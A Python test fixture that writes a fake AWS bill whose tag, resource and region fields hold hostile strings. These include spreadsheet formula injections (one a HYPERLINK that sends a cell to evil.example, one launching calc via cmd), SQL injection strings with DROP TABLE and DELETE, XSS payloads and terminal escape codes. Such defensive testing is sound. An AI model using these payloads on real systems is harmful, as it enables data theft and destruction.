"""Texts that somebody could put into a tag, a SKU or a name, hoping that something runs them."""

from collections.abc import Sequence
from datetime import UTC, date, datetime
from pathlib import Path

from tests.handlers.load.bills import NOVA, SONNET, SONNET_OUT, AwsBill, Line, write_bill

NOVEMBER = date(2026, 11, 1)
PAYER = "111122223333"

FORMULAS: tuple[str, ...] = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
    "\uff1d1+1",
    "\uff20SUM(1)",
)
"""What a spreadsheet would compute: https://owasp.org/www-community/attacks/CSV_Injection"""

STATEMENTS: tuple[str, ...] = (
    "acme' OR '1'='1",
    "acme'; DROP TABLE llm_costs; --",
    "acme''; DELETE FROM ledger; --",
    'acme"; DROP TABLE ledger; --',
    "acme\\'; DELETE FROM llm_costs; --",
    "acme\\",
    "acme/*",
    "*/ acme --",
    "acme`; DROP TABLE `ledger",
    "acme]; DROP TABLE ledger; --",
    "$$; DROP TABLE ledger; $$",
    "{{customer}} ${customer} $customer",
    "acme\u2019 OR \u20191\u2019=\u20191",
    "acme%' OR name LIKE '%",
    ":1 ? @p $1",
)
"""What one of the four engines would run if it stood in a statement unquoted or ill quoted."""

PAGES: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[see](javascript:alert(1))",
    "\x1b]0;title\x07\x1b[2J",
    "acme\u202eemca",
    "[/acme]",
    "[conceal]acme",
)
"""What a page, a terminal or a reader's eye would be misled by."""

CONTROLS = tuple(text for text in PAGES if not text.isprintable())

HOSTILE = (*FORMULAS, *STATEMENTS, *PAGES)


def cost_of(number: int) -> str:
    """The cost of the customer of that number: another for each."""
    return f"{number + 1}.000000001"


def write_hostile_bill(folder: Path, names: Sequence[str] = HOSTILE) -> None:
    """A bill in which each of ``names`` is a customer, a project and a resource, and a credit."""
    lines: list[Line] = []
    for number, name in enumerate(names):
        tags = {"customer": name, "project": name}
        lines.append(Line(date(2026, 11, 1), cost_of(number), SONNET, tags=tags, resource=name))
        lines.append(Line(date(2026, 11, 2), "-0.5", SONNET_OUT, tags=tags, line_type="Credit"))
        lines.append(Line(date(2026, 11, 2), "0.25", f"{NOVA} {name}", tags=tags, region=name))
    written = datetime(2026, 11, 20, tzinfo=UTC)
    write_bill(folder, AwsBill(PAYER, NOVEMBER, lines, written))
